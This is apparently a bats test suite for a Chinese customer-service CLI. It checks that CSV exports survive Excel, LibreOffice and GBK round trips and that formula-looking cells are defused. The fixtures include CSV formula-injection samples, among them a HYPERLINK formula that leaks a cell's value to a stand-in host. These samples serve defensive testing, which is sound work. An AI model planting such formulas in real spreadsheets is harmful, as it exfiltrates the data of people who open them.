#!/usr/bin/env bats
# Spreadsheet round trips, as an operations assistant whose work ends up in
# Excel/LibreOffice reads SPEC.md ("Conventions every binary follows":
# --excel/--bom, formula defusing, long digit strings kept as text, GBK
# input, BOM, CRLF) and cs(7) ("Output", "Input of record sets"). Every
# binary that writes or reads CSV, through LibreOffice and back, through a
# GBK re-save, and with what spreadsheets leave in a file. Tests of
# behaviour that is wrong today fail on purpose: they document a finding.
bats_require_minimum_version 1.5.0
load helper

q() {
	sqlite3 "$CS_DB" "$1"
}

# The world every test starts from (fixture_db): a roster, customers and
# tickets with formula-looking text, long digit strings and codes with
# leading zeros, knowledge-base articles, revisits; and their --excel
# exports in $BATS_FILE_TMPDIR/lo, taken through LibreOffice (csv -> xlsx
# -> csv) once for the whole file into $BATS_FILE_TMPDIR/lo/back.
setup_file() {
	export TZ=Asia/Shanghai CS_USER=tester CS_NOW=2026-11-24T09:00:00
	unset XDG_DATA_HOME CS_BUSY_TIMEOUT LANG
	local f="$BATS_FILE_TMPDIR/fixture" lo="$BATS_FILE_TMPDIR/lo"
	mkdir -p "$f" "$lo"
	(
		set -e
		export CS_DB="$f/cs.db"
		cat > "$f/agents.csv" <<-'CSV'
		login,name,team,role,skills,weight,capacity,active
		li.na,李娜,售后组,agent,售后;投诉,1,20,yes
		wang.wei,王伟,售后组,reviewer,投诉,2,,yes
		zhang.min,张敏,技术组,agent,技术支持,1.5,10,no
		eq.a,=1+2,@运营组,agent,=cmd;投诉,1,,yes
		pl.b,+86 138,-1+cmd,agent,-退货,0.5,,yes
		num.c,-1,-2,supervisor,00123,2,,yes
		007,13812345678,0123,agent,400-123-4567,1,,yes
		CSV
		cs-agent import "$f/agents.csv"
		cat > "$f/customers.csv" <<-'CSV'
		code,name,phone,phone2,email,wechat,company,city,address,segment,tags,owner,birthday,notes,attr.order_no,attr.card,attr.amount,attr.purchase_date
		00123,"=HYPERLINK(""http://example.invalid/?leak=""&A1,""点击查看退款进度"")",400 123 4567,4008001234转8001,,,@公司,-北京,+号楼,main,=tag;普通,li.na,1990-01-02,-1,123456789012345678,00000000000000000001,-3.5,2026-11-01
		0012345678901,王芳,138 1234 5678,010-12345678-8001,wang.fang@example.com,13900001111,上海华联商贸有限公司,上海,"上海市浦东新区世纪大道100号, 3层",main,vip;老客户,007,1985-03-12,"喜欢电话联系,不要短信",98765432109876543210,0,1200,2026-10-15
		C003,-李强,+86 0755 8888 6666,13700001234,li.qiang@example.com,,北京中关村科技有限公司,北京,=1+2,main,,wang.wei,,"@提醒
		第二行=SUM(A1)",,0755,10,
		2023E0001,赵敏,15800001111,,,,,广州,,sci,,,,,,,,
		CSV
		cs-customer import "$f/customers.csv"
		cat > "$f/tickets.csv" <<-'CSV'
		external_id,customer,type,subtype,channel,category,stage,priority,status,assignee,subject,body,created_at,first_response_at,resolved_at,closed_at,reopened,csat,root_cause,resolution
		123456789012345678,C003,complaint,,phone,=物流,@仓库,high,resolved,li.na,"=HYPERLINK(""x"")",+body,2026-11-17 10:00,2026-11-17 10:30,2026-11-18 10:00,,0,5,-原因,+解决
		00098765432109876543,C003,consult,,wechat,-1,,normal,open,wang.wei,-1,,2026-11-18 09:00,2026-11-18 09:10,,,,,,
		4001234567890123456,13812345678,aftersales,return,web,退货,,low,closed,007,订单00123退货,,2026-11-16 09:00,2026-11-16 09:05,2026-11-19 09:00,2026-11-20 09:00,,4,,已退款
		CSV
		cs-ticket import "$f/tickets.csv"
		cs-kb add -t '=退货流程' -c '@售后' --tags '-1;发票' -b $'- 第一步：登录\n- 第二步：申请退货' >/dev/null
		cs-kb add -t '订单00123号查询' -c '-物流' -b '@所有人 拨打 400-123-4567' >/dev/null
		cs-kb add -t '00123' -c '12345678901234567890' -b 'x' >/dev/null
		cs-kb submit 1 >/dev/null
		cs-kb approve 1 --actor wang.wei >/dev/null
		cs-kb publish 1 --actor wang.wei >/dev/null
		cs-agent leave li.na --from 2026-12-01 --to 2026-12-02 --note '=年假' >/dev/null
		cs-ticket calendar holiday 2027-01-01 --note '=元旦' >/dev/null
		cs-ticket qa-form set 质检表 '@礼貌=40' '=解决=60' >/dev/null
		cs-customer list --segment main -f csv | cs-revisit plan -r '=春节关怀' -
		cs-revisit assign
		cs-customer export --segment main --excel > "$lo/cust.csv"
		cs-customer export --segment sci --excel > "$lo/sci.csv"
		cs-agent list --excel > "$lo/agents.csv"
		cs-kb export --excel > "$lo/kb.csv"
		cs-ticket list --excel > "$lo/tickets.csv"
		cs-report 2026-W47 --excel > "$lo/report.csv"
	) > "$BATS_FILE_TMPDIR/setup.log" 2>&1 || { cat "$BATS_FILE_TMPDIR/setup.log"; return 1; }
	if command -v soffice >/dev/null; then
		mkdir -p "$BATS_FILE_TMPDIR/home"
		(cd "$lo" && HOME="$BATS_FILE_TMPDIR/home" soffice --headless \
		    --infilter="CSV:44,34,76,1" --convert-to xlsx \
		    cust.csv sci.csv agents.csv kb.csv tickets.csv report.csv \
		    >/dev/null 2>&1)
		(cd "$lo" && HOME="$BATS_FILE_TMPDIR/home" soffice --headless \
		    --convert-to 'csv:Text - txt - csv (StarCalc):44,34,76,1' \
		    --outdir back cust.xlsx sci.xlsx agents.xlsx kb.xlsx \
		    tickets.xlsx report.xlsx >/dev/null 2>&1)
	fi
	return 0
}

# The file $1 as LibreOffice saved it again (set up once in setup_file).
lo_back() {
	command -v soffice >/dev/null || skip "LibreOffice (soffice) is not installed"
	LO="$BATS_FILE_TMPDIR/lo"
	[ -s "$LO/back/$1" ] || { echo "LibreOffice did not write back/$1"; return 1; }
}

# excel_bad FILE: prints every way FILE breaks the --excel contract of
# cs(7): no BOM, a line end that is not CRLF, a cell that a spreadsheet
# runs as a formula (text starting with = + - @ TAB CR LF that is not a
# number), a bare string of 11+ digits or of 2+ digits starting with 0.
excel_bad() {
	perl -e '
	local $/; open my $fh, "<:raw", $ARGV[0] or die "$ARGV[0]: $!"; my $s = <$fh>;
	my @bad;
	push @bad, "no BOM" unless $s =~ s/^\xEF\xBB\xBF//;
	my (@rows, @cur); my ($c, $inq, $i, $n) = ("", 0, 0, length $s);
	while ($i < $n) {
		my $ch = substr($s, $i, 1);
		if ($inq) {
			if ($ch eq "\"") {
				if (substr($s, $i + 1, 1) eq "\"") { $c .= "\""; $i += 2; next }
				$inq = 0; $i++; next;
			}
			$c .= $ch; $i++; next;
		}
		if ($ch eq "\"") { $inq = 1; $i++; next }
		if ($ch eq ",") { push @cur, $c; $c = ""; $i++; next }
		if ($ch eq "\r" && substr($s, $i + 1, 1) eq "\n") {
			push @cur, $c; push @rows, [@cur]; @cur = (); $c = ""; $i += 2; next;
		}
		if ($ch eq "\n") {
			push @bad, "a line ends in LF, not CRLF, after row " . (@rows + 1);
			push @cur, $c; push @rows, [@cur]; @cur = (); $c = ""; $i++; next;
		}
		$c .= $ch; $i++;
	}
	if (@cur || $c ne "") { push @cur, $c; push @rows, [@cur]; push @bad, "the last line has no CRLF" }
	my $r = 0;
	for my $row (@rows) {
		$r++; my $k = 0;
		for my $v (@$row) {
			$k++;
			my $num = $v =~ /^[-+]?\d+(\.\d+)?([eE][-+]?\d+)?$/;
			if ($v =~ /^[=+\-\@\t\r\n]/ && !$num && $v !~ /^="[-+]?\d+"$/) {
				push @bad, "row $r column $k runs as a formula: $v";
			}
			push @bad, "row $r column $k is bare digits: $v" if $v =~ /^[-+]?(\d{11,}|0\d+)$/;
		}
	}
	print "$_\n" for @bad;' "$1"
}

# csv_col FILE COLUMN: the cells of COLUMN of a CSV file (no BOM), one a
# line, as sqlite3 reads RFC 4180.
csv_col() {
	sqlite3 :memory: ".import --csv $1 t" "SELECT \"$2\" FROM t"
}

# As Chinese Excel saves a cs --excel file again as "CSV (逗号分隔)": no
# BOM, the ="..." cells as their digits, dates as 2026/11/1, GBK, CRLF.
excel_gbk() {
	sed '1s/^\xef\xbb\xbf//; s/"=""\([-+]\{0,1\}[0-9]*\)"""/\1/g
	     s/\b\([12][0-9]\{3\}\)-0\{0,1\}\([1-9][0-9]\{0,1\}\)-0\{0,1\}\([1-9][0-9]\{0,1\}\)\([,\r]\)/\1\/\2\/\3\4/g' "$1" |
	    iconv -f UTF-8 -t GBK
}

# ---- output: --excel on every command that writes CSV -------------------

@test "--excel on every list, export, report and dry run: BOM, CRLF, formula text defused, long digit strings as =\"...\"" {
	fixture_db
	local cmds=(
		"cs-customer list" "cs-customer export" "cs-customer dedupe"
		"cs-customer show 2"
		"cs-agent list" "cs-agent leave" "cs-agent show 007"
		"cs-agent target list"
		"cs-ticket list" "cs-ticket show 1" "cs-ticket overdue"
		"cs-ticket sla list" "cs-ticket calendar list" "cs-ticket type list"
		"cs-ticket qa-form list"
		"cs-ticket sample 2026-W47 --per-agent 5"
		"cs-revisit list --no-mask" "cs-revisit list" "cs-revisit summary 2026-W48"
		"cs-revisit assign -n"
		"cs-report 2026-W47" "cs-report scorecard 2026-W47"
		"cs-kb list" "cs-kb export" "cs-kb history 1" "cs-kb search 退货"
		"cs-kb gaps 2026-W47"
		"cs-db stats" "cs-db views"
	)
	local c bad=0
	for c in "${cmds[@]}"; do
		rc=0
		$c -f csv --excel > "$T/out.csv" 2>"$T/err" || rc=$?
		[ $rc -le 1 ] || { echo "$c: exit $rc: $(cat "$T/err")"; bad=1; continue; }
		[ -s "$T/out.csv" ] || { echo "$c: no output"; bad=1; continue; }
		out=$(excel_bad "$T/out.csv")
		[ -z "$out" ] || { echo "$c:"; echo "$out" | head -n 5; bad=1; }
	done
	# the same with --bom, given before the command
	cs-customer --bom export > "$T/bom.csv"
	cmp "$T/bom.csv" <(cs-customer export --excel)
	[ $bad -eq 0 ]
	# and the dry run of a plan from a list
	cs-customer list -f csv | cs-revisit plan -n -r '=元旦关怀' --excel - > "$T/plan.csv" 2>/dev/null
	[ -z "$(excel_bad "$T/plan.csv")" ]
	grep -q "'=元旦关怀" "$T/plan.csv"
}

@test "--excel writes the cells of the fixture as cs(7) says: ' before formulas, =\"...\" around long digits, numbers as they are" {
	fixture_db
	cs-agent list --excel > "$T/a.csv"
	grep -qxF $'eq.a,\'=1+2,\'@运营组,agent,"\'=cmd;投诉",1,,yes,no\r' "$T/a.csv"
	grep -qxF $'pl.b,\'+86 138,\'-1+cmd,agent,\'-退货,0.5,,yes,no\r' "$T/a.csv"
	# -1 and -2 are numbers: not defused
	grep -qxF $'num.c,-1,-2,supervisor,"=""00123""",2,,yes,no\r' "$T/a.csv"
	grep -qxF $'"=""007""","=""13812345678""","=""0123""",agent,400-123-4567,1,,yes,no\r' "$T/a.csv"
	cs-ticket list --excel > "$T/t.csv"
	grep -q '^1,"=""123456789012345678""",.*,'"'"'=物流,resolved,li.na,"'"'"'=HYPERLINK(""x"")",' "$T/t.csv"
	grep -q '^2,"=""00098765432109876543""",.*,-1,open,wang.wei,-1,' "$T/t.csv"
	cs-kb export --excel > "$T/k.csv"
	grep -q $'^1,\'=退货流程,\'@售后,"\'-1;发票",published,.*,"\'- 第一步：登录$' "$T/k.csv"
	grep -q '^3,"=""00123""","=""12345678901234567890""",' "$T/k.csv"
}

@test "--excel with tsv: BOM, CRLF, defused, =\"...\"; with json, jsonl and table it changes nothing" {
	fixture_db
	cs-agent list -f tsv --excel > "$T/a.tsv"
	[ "$(head -c 3 "$T/a.tsv" | od -An -tx1 | tr -d ' ')" = efbbbf ]
	[ "$(grep -c $'\r$' "$T/a.tsv")" -eq 8 ]
	grep -qxF $'eq.a\t\'=1+2\t\'@运营组\tagent\t\'=cmd;投诉\t1\t\tyes\tno\r' "$T/a.tsv"
	grep -qxF $'="007"\t="13812345678"\t="0123"\tagent\t400-123-4567\t1\t\tyes\tno\r' "$T/a.tsv"
	for f in json jsonl table; do
		[ "$(cs-agent list -f $f --excel)" = "$(cs-agent list -f $f)" ] || { echo "$f differs"; false; }
	done
}

# ---- round trips through LibreOffice --------------------------------------

@test "customers: export --excel -> LibreOffice xlsx -> CSV -> import changes nothing, and a new database gets the same records" {
	lo_back cust.csv
	fixture_db
	# the long digit strings and leading zeros came back whole, as text
	grep -q '^"00123",' "$LO/back/cust.csv"
	grep -q '"98765432109876543210"' "$LO/back/cust.csv"
	grep -q '"00000000000000000001"' "$LO/back/cust.csv"
	grep -q '"13900001111"' "$LO/back/cust.csv"
	before=$(dbsum)
	run --separate-stderr cs-customer import "$LO/back/cust.csv"
	[ "$status" -eq 0 ]
	[[ "$stderr" == *"added 0, updated 0, unchanged 3, rejected 0"* ]]
	[ "$(dbsum)" = "$before" ]
	cs-customer export --segment main -f csv > "$T/given.csv"
	export CS_DB="$T/new/cs.db"
	cs-agent import "$LO/back/agents.csv" 2>/dev/null
	cs-customer import "$LO/back/cust.csv" 2>/dev/null
	cs-customer export --segment main -f csv > "$T/back.csv"
	diff "$T/given.csv" "$T/back.csv"
}

@test "agents: list --excel -> LibreOffice -> import changes nothing (=1+2, +86 138, -1, 007, 0123 kept)" {
	lo_back agents.csv
	fixture_db
	grep -q '^"007","13812345678","0123",' "$LO/back/agents.csv"
	before=$(dbsum)
	run --separate-stderr cs-agent import "$LO/back/agents.csv"
	[ "$status" -eq 0 ]
	[[ "$stderr" == *"added 0, updated 0, unchanged 7, rejected 0"* ]]
	[ "$(dbsum)" = "$before" ]
}

@test "knowledge base: export --excel -> LibreOffice -> import changes nothing (titles =..., 00123, a body that starts with -)" {
	lo_back kb.csv
	fixture_db
	before=$(dbsum)
	run --separate-stderr cs-kb import "$LO/back/kb.csv"
	[ "$status" -eq 0 ]
	[[ "$stderr" == *"added 0, updated 0, unchanged 3, rejected 0"* ]]
	[ "$(dbsum)" = "$before" ]
}

@test "tickets: list --excel -> LibreOffice -> CSV keeps 18-20 digit external ids, categories and subjects exactly" {
	lo_back tickets.csv
	fixture_db
	[ "$(csv_col "$LO/back/tickets.csv" external_id)" = "$(q 'SELECT external_id FROM ticket ORDER BY id')" ]
	[ "$(csv_col "$LO/back/tickets.csv" category | sed "s/^'//")" = "$(q "SELECT ifnull(category, '') FROM ticket ORDER BY id")" ]
	[ "$(csv_col "$LO/back/tickets.csv" subject | sed "s/^'//")" = "$(q "SELECT ifnull(subject, '') FROM ticket ORDER BY id")" ]
	[ "$(csv_col "$LO/back/tickets.csv" customer | sed "s/^'//")" = "$(q 'SELECT c.name FROM ticket t JOIN customer c ON c.id = t.customer_id ORDER BY t.id')" ]
}

@test "report: the tidy CSV with --excel through LibreOffice keeps value, previous, change_pct as numbers (or empty), keys as text; created by type sums to the total" {
	lo_back report.csv
	fixture_db
	local f="$LO/back/report.csv"
	[ "$(head -n 1 "$f")" = '"section","metric","key","value","previous","change_pct"' ]
	# LibreOffice quotes the text cells it saves, never a number: every
	# figure is a number or empty, every section, metric and key is text
	num='(-?[0-9]+(\.[0-9]+)?)?'
	bad=$(tail -n +2 "$f" | grep -Evx "\"[a-z_]+\",\"[a-z_0-9]+\",(\"[^\"]+\")?,$num,$num,$num" || true)
	[ -z "$bad" ] || { echo "$bad"; false; }
	grep -q '^"agents","resolved","agent=li.na",1,' "$f"
	grep -q '^"tickets","created","category==物流",1,' "$f"
	# undefined figures stay empty, not 0
	grep -q '^"sla","sla_met_pct",,,,$' "$f"
	# a pivot sums them
	total=$(awk -F, '$1 == "\"tickets\"" && $2 == "\"created\"" && $3 == "" { print $4 }' "$f")
	sum=$(awk -F, '$1 == "\"tickets\"" && $2 == "\"created\"" && $3 ~ /^"type=/ { s += $4 } END { print s }' "$f")
	[ "$total" = 3 ]
	[ "$sum" = "$total" ]
}

@test "LibreOffice copies re-saved as GBK import with --encoding gbk and change nothing (customers, agents, knowledge base)" {
	lo_back cust.csv
	fixture_db
	before=$(dbsum)
	iconv -f UTF-8 -t GBK "$LO/back/cust.csv" > "$T/cust.csv"
	iconv -f UTF-8 -t GBK "$LO/back/agents.csv" > "$T/agents.csv"
	iconv -f UTF-8 -t GBK "$LO/back/kb.csv" > "$T/kb.csv"
	run --separate-stderr cs-customer import --encoding gbk "$T/cust.csv"
	[ "$status" -eq 0 ]
	[[ "$stderr" == *"added 0, updated 0, unchanged 3, rejected 0"* ]]
	run --separate-stderr cs-agent import --encoding gbk "$T/agents.csv"
	[ "$status" -eq 0 ]
	[[ "$stderr" == *"added 0, updated 0, unchanged 7, rejected 0"* ]]
	run --separate-stderr cs-kb import --encoding gb18030 "$T/kb.csv"
	[ "$status" -eq 0 ]
	[[ "$stderr" == *"added 0, updated 0, unchanged 3, rejected 0"* ]]
	[ "$(dbsum)" = "$before" ]
}

@test "customers saved again by Chinese Excel (no BOM, =\"...\" as digits, dates 1985/3/12, GBK, CRLF) import with --encoding gbk and change nothing" {
	fixture_db
	cs-customer export --segment main --excel > "$T/x.csv"
	excel_gbk "$T/x.csv" > "$T/gbk.csv"
	iconv -f GBK -t UTF-8 "$T/gbk.csv" | grep -q '^0012345678901,王芳,13812345678,.*,1985/3/12,'
	before=$(dbsum)
	run --separate-stderr cs-customer import --encoding gbk "$T/gbk.csv"
	[ "$status" -eq 0 ]
	[[ "$stderr" == *"added 0, updated 0, unchanged 3, rejected 0"* ]]
	[ "$(dbsum)" = "$before" ]
}

# ---- input: what spreadsheets leave in a file ----------------------------

@test "a bad cell in a LibreOffice copy is named by its line, counting the lines of a multi-line note; nothing written" {
	lo_back cust.csv
	fixture_db
	cp "$LO/back/cust.csv" "$T/c.csv"
	# a row typed in the spreadsheet, whose phone it turned into 1.38123E+10
	printf '"K9","张九",1.38123E+10,,,,,,,"main",,,,,,,,\n' >> "$T/c.csv"
	before=$(dbsum)
	run cs-customer import "$T/c.csv"
	echo "$output"
	[ "$status" -eq 65 ]
	[[ "$output" == "cs-customer: $T/c.csv:6: phone: "*"(1.38123E+10)"* ]]
	[ "$(dbsum)" = "$before" ]
}

@test "ids from --excel lists (BOM, CRLF, =\"...\" external ids, ' before formulas) drive assign, tag and cancel" {
	fixture_db
	cs-ticket list --excel --status open > "$T/t.csv"
	run cs-ticket assign - li.na < "$T/t.csv"
	[ "$status" -eq 0 ]
	[ "$(q "SELECT assignee FROM v_tickets WHERE external_id = '00098765432109876543'")" = li.na ]
	cs-customer list --excel --segment main > "$T/c.csv"
	run cs-customer tag - --add 双十一 < "$T/c.csv"
	[ "$status" -eq 0 ]
	[ "$(q "SELECT count(*) FROM v_customers WHERE tags LIKE '%双十一%'")" = 3 ]
	cs-revisit list --excel > "$T/r.csv"
	run cs-revisit cancel - < "$T/r.csv"
	[ "$status" -eq 0 ]
	[ "$(q "SELECT count(*) FROM revisit WHERE status = 'cancelled'")" = 3 ]
}

@test "a BOM and CRLF, and LibreOffice's quoted headers without a final newline, are read by every importer" {
	fixture_db
	local B=$'\xef\xbb\xbf'
	printf '%slogin,name\r\nbom.x,某人\r\n' "$B" > "$T/a.csv"
	printf '%scode,name,phone\r\nB1,包一,13811112222\r\n' "$B" > "$T/c.csv"
	printf '%sexternal_id,customer,type,created_at\r\nB1,C003,consult,2026-11-20 09:00\r\n' "$B" > "$T/t.csv"
	printf '%stitle,body\r\n新标题,正文\r\n' "$B" > "$T/k.csv"
	printf '%sid,attempts,result\r\n1,0,reached\r\n' "$B" > "$T/r.csv"
	printf '%scode\r\nC003\r\n' "$B" > "$T/p.csv"
	printf '%sday,kind,note\r\n2027-02-11,holiday,春节\r\n' "$B" > "$T/h.csv"
	for i in a c t k r p h; do
		sed '1s/^\xef\xbb\xbf//; s/\r$//; 1s/\([^,]*\)/"\1"/g' "$T/$i.csv" | head -c -1 > "$T/lo-$i.csv"
	done
	for v in "" lo-; do
		run cs-agent import -n "$T/${v}a.csv"
		[[ "$status $output" == *"0 "*"would add 1, would update 0, unchanged 0, rejected 0"* ]] || { echo "agent $v: $output"; false; }
		run cs-customer import -n "$T/${v}c.csv"
		[[ "$status $output" == *"0 "*"would add 1, would update 0, unchanged 0, rejected 0"* ]] || { echo "customer $v: $output"; false; }
		run cs-ticket import -n "$T/${v}t.csv"
		[[ "$status $output" == *"0 "*"would add 1, would update 0, unchanged 0, rejected 0"* ]] || { echo "ticket $v: $output"; false; }
		run cs-kb import -n "$T/${v}k.csv"
		[[ "$status $output" == *"0 "*"would add 1, would update 0, unchanged 0, rejected 0"* ]] || { echo "kb $v: $output"; false; }
		run cs-revisit import -n "$T/${v}r.csv"
		[[ "$status $output" == *"0 "*"would add 1, would update 0, unchanged 0, rejected 0"* ]] || { echo "revisit $v: $output"; false; }
		run cs-revisit plan -n -r 新年 "$T/${v}p.csv"
		[ "$status" -eq 0 ] && [[ "$output" == *"would plan 1,"* ]] || { echo "plan $v: $output"; false; }
	done
	run cs-ticket calendar import "$T/lo-h.csv"
	[ "$status" -eq 0 ]
	run cs-ticket calendar import "$T/h.csv"
	[ "$status" -eq 0 ]
	[ "$(q "SELECT count(*) FROM v_agents WHERE login = 'bom.x'")" = 0 ]
}

@test "old Excel for Mac CSV (CR line ends): a bad record is named by its own line, not line 1" {
	fixture_db
	before=$(dbsum)
	printf 'code,name,phone\rK7,张七,13811112222\rK8,张八,12345\r' > "$T/c.csv"
	run cs-customer import "$T/c.csv"
	echo "$output"
	[ "$status" -eq 65 ]
	[[ "$output" == *"c.csv:3: phone: "*"(12345)"* ]]
	printf 'login,name,weight\rl.a,甲,1\rl.b,乙,abc\r' > "$T/a.csv"
	run cs-agent import "$T/a.csv"
	[ "$status" -eq 65 ]
	[[ "$output" == *"a.csv:3: weight: "*"(abc)"* ]]
	printf 'external_id,customer,type,created_at\rE1,C003,consult,2026-11-01\rE2,C003,bogus,2026-11-01\r' > "$T/t.csv"
	run cs-ticket import "$T/t.csv"
	[ "$status" -eq 65 ]
	[[ "$output" == *"t.csv:3: type: "*"(bogus)"* ]]
	[ "$(dbsum)" = "$before" ]
}

@test "trailing empty columns in the header (code,name,phone,,,) are refused naming file, line 1 and the column; nothing written" {
	fixture_db
	before=$(dbsum)
	printf 'code,name,phone,,,\r\nK9,张九,13811114444,,,\r\n' > "$T/c.csv"
	run cs-customer import "$T/c.csv"
	[ "$status" -eq 65 ]
	[[ "$output" == "cs-customer: $T/c.csv:1: empty column name (column 4)"* ]]
	# cs(7): "an empty or a repeated column name is an error" -- with
	# --ignore-unknown too
	run cs-customer import --ignore-unknown "$T/c.csv"
	[ "$status" -eq 65 ]
	printf 'id,attempts,result,,\r\n1,0,reached,,\r\n' > "$T/r.csv"
	run cs-revisit import "$T/r.csv"
	[ "$status" -eq 65 ]
	[[ "$output" == *"r.csv:1: empty column name (column 4)"* ]]
	[ "$(dbsum)" = "$before" ]
}

@test "a row with trailing ,,, beyond the header is refused with its line; a trailing empty line is skipped" {
	fixture_db
	before=$(dbsum)
	printf 'code,name,phone\r\nK8,张八,13811113333\r\nK9,张九,13811114444,,,\r\n' > "$T/c.csv"
	run cs-customer import "$T/c.csv"
	[ "$status" -eq 65 ]
	[[ "$output" == *"c.csv:3: expected 3 fields, found 6"* ]]
	[ "$(dbsum)" = "$before" ]
	printf 'code,name,phone\r\nK8,张八,13811113333\r\n\r\n' > "$T/c2.csv"
	run cs-customer import "$T/c2.csv"
	[ "$status" -eq 0 ]
	[[ "$output" == *"added 1, updated 0, unchanged 0, rejected 0"* ]]
}

@test "a header ' name' after a BOM: spaces are data, so it is an unknown column, named, with nothing written" {
	fixture_db
	before=$(dbsum)
	printf '\xef\xbb\xbfcode, name,phone\r\nK9,张九,13811114444\r\n' > "$T/c.csv"
	run cs-customer import "$T/c.csv"
	[ "$status" -eq 65 ]
	[[ "$output" == *"c.csv:1:  name: unknown column"* ]]
	[ "$(dbsum)" = "$before" ]
}

@test "values a spreadsheet made (1.38123E+10, 1.00E+01, 1,5, 11/17/26 10:00 AM, TRUE) are refused with file, line, column and value; nothing written" {
	fixture_db
	before=$(dbsum)
	printf 'code,name,phone\r\nK8,张八,13811113333\r\nK9,张九,1.38123E+10\r\n' > "$T/c.csv"
	run cs-customer import "$T/c.csv"
	[ "$status" -eq 65 ]
	[[ "$output" == *"c.csv:3: phone: "*"(1.38123E+10)"* ]]
	printf 'login,weight,capacity\r\nli.na,1,20\r\nwang.wei,"1,5",\r\n' > "$T/a.csv"
	run cs-agent import "$T/a.csv"
	[ "$status" -eq 65 ]
	[[ "$output" == *"a.csv:3: weight: "*"(1,5)"* ]]
	printf 'login,weight,capacity\r\nli.na,1,20\r\nwang.wei,1,1.00E+01\r\n' > "$T/a2.csv"
	run cs-agent import "$T/a2.csv"
	[ "$status" -eq 65 ]
	[[ "$output" == *"a2.csv:3: capacity: "*"(1.00E+01)"* ]]
	printf 'external_id,customer,type,created_at\r\nZ1,C003,consult,2026-11-01\r\nZ2,C003,consult,11/17/26 10:00 AM\r\n' > "$T/t.csv"
	run cs-ticket import "$T/t.csv"
	[ "$status" -eq 65 ]
	[[ "$output" == *"t.csv:3: created_at: "*"(11/17/26 10:00 AM)"* ]]
	printf 'title,status\r\n新文章,draft\r\n另一篇,TRUE\r\n' > "$T/k.csv"
	run cs-kb import "$T/k.csv"
	[ "$status" -eq 65 ]
	[[ "$output" == *"k.csv:3: status: "*"(TRUE)"* ]]
	printf 'id,attempts,result,score\r\n1,0,reached,5.00E+00\r\n' > "$T/r.csv"
	run cs-revisit import "$T/r.csv"
	[ "$status" -eq 65 ]
	[[ "$output" == *"r.csv:2: score: "*"(5.00E+00)"* ]]
	[ "$(dbsum)" = "$before" ]
}

@test "a UTF-8 file with a BOM read with --encoding gbk is not stored as mojibake" {
	fixture_db
	printf '\xef\xbb\xbfcode,name\r\nK1,张三\r\n' > "$T/c.csv"
	run cs-customer import --encoding gbk "$T/c.csv"
	echo "status $status: $output; stored: $(q "SELECT name FROM customer WHERE code = 'K1'")"
	# the BOM says UTF-8: read it as UTF-8, or refuse the file (65); never
	# store 张三 as 寮犱笁
	if [ "$status" -eq 0 ]; then
		[ "$(q "SELECT name FROM customer WHERE code = 'K1'")" = 张三 ]
	else
		[ "$status" -eq 65 ]
		[ "$(q "SELECT count(*) FROM customer WHERE code = 'K1'")" = 0 ]
	fi
	printf '\xef\xbb\xbflogin,name\r\nx.y,李四\r\n' > "$T/a.csv"
	run cs-agent import --encoding gbk "$T/a.csv"
	if [ "$status" -eq 0 ]; then
		[ "$(q "SELECT name FROM agent WHERE login = 'x.y'")" = 李四 ]
	else
		[ "$status" -eq 65 ]
	fi
}

@test "ids from a ticket or revisit list saved by Chinese Excel (GBK): the hint 'try --encoding gbk' names an option the command takes" {
	fixture_db
	cs-ticket list --excel | excel_gbk /dev/stdin > "$T/tickets.csv"
	cs-revisit list --excel | excel_gbk /dev/stdin > "$T/sheet.csv"
	local c f bad=0
	for c in "cs-ticket assign - li.na:tickets" "cs-ticket start -:tickets" \
	    "cs-ticket update --priority low -:tickets" "cs-revisit reassign - li.na:sheet" \
	    "cs-customer tag - --add 双十一:tickets" "cs-revisit cancel -:sheet"; do
		f=${c##*:}
		c=${c%:*}
		before=$(dbsum)
		run $c < "$T/$f.csv"
		[ "$(dbsum)" = "$before" ] || { echo "$c wrote"; bad=1; }
		if [[ "$output" == *"try --encoding gbk"* ]]; then
			run $c --encoding gbk < "$T/$f.csv"
			[ "$status" -ne 2 ] || { echo "$c: $output"; bad=1; }
		fi
	done
	[ $bad -eq 0 ]
}

@test "=\"...\" cells of an --excel file are read as their digits by every importer and list reader" {
	fixture_db
	printf 'login,team\r\nnum.c,"=""0123"""\r\n' > "$T/a.csv"
	cs-agent import "$T/a.csv" 2>/dev/null
	[ "$(q "SELECT team FROM v_agents WHERE login = 'num.c'")" = 0123 ]
	printf 'external_id,customer,type,created_at\r\n"=""00098765432109876543""","=""13812345678""",consult,2026-11-18 09:00\r\n' > "$T/t.csv"
	cs-ticket import "$T/t.csv" 2>/dev/null
	[ "$(q "SELECT customer_code FROM v_tickets WHERE external_id = '00098765432109876543'")" = 0012345678901 ]
	[ "$(q 'SELECT count(*) FROM ticket')" = 3 ]
	printf 'title,category\r\n"=""00123""","=""12345678901234567890"""\r\n' > "$T/k.csv"
	run --separate-stderr cs-kb import "$T/k.csv"
	[[ "$stderr" == *"added 0, updated 0, unchanged 1, rejected 0"* ]]
	printf 'code\r\n"=""00123"""\r\n' > "$T/p.csv"
	run cs-revisit plan -n -r 回访 "$T/p.csv"
	[ "$status" -eq 0 ]
	[[ "$output" == *"would plan 1,"* ]]
	printf 'code,name\r\n"=""0012345678901""",王芳\r\n' > "$T/c.csv"
	run --separate-stderr cs-customer import "$T/c.csv"
	[[ "$stderr" == *"added 0, updated 0, unchanged 1, rejected 0"* ]]
}

@test "--skip-invalid with --excel writes the rejects of agents, tickets, articles and revisit sheets for a spreadsheet" {
	fixture_db
	printf 'login,name,team,weight\nr.a,=1+2,00123,abc\n' > "$T/a.csv"
	printf 'external_id,customer,type,created_at,subject\n123456789012345678901,C003,nosuch,2026-11-01,=SUM(1)\n' > "$T/t.csv"
	printf 'title,status,body\n=T,bogus,@x\n' > "$T/k.csv"
	printf 'id,attempts,result,note\n1,0,bogus,-备注\n' > "$T/r.csv"
	local b
	for b in agent:a ticket:t kb:k revisit:r; do
		run cs-${b%:*} import --excel --skip-invalid "$T/rej-${b#*:}.csv" "$T/${b#*:}.csv"
		[ "$status" -eq 0 ] || { echo "$b: $output"; false; }
		out=$(excel_bad "$T/rej-${b#*:}.csv")
		[ -z "$out" ] || { echo "$b: $out"; false; }
	done
	grep -q "^r.a,'=1+2,\"=\"\"00123\"\"\",abc," "$T/rej-a.csv"
	grep -q "^\"=\"\"123456789012345678901\"\"\",C003,nosuch,2026-11-01,'=SUM(1)," "$T/rej-t.csv"
	grep -q "^'=T,bogus,'@x," "$T/rej-k.csv"
	grep -q "^1,0,bogus,'-备注," "$T/rej-r.csv"
}
